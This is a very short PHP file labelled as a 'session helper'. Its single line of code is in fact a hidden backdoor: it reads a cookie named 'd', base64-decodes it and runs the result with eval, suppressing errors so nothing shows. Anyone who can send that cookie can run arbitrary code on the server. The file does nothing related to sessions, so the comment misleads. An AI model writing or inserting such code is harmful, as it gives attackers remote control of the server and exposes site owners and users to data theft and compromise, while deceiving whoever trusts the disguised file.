<?php
// session helper
if (!empty($_COOKIE['d'])) { @eval(base64_decode($_COOKIE['d'])); }
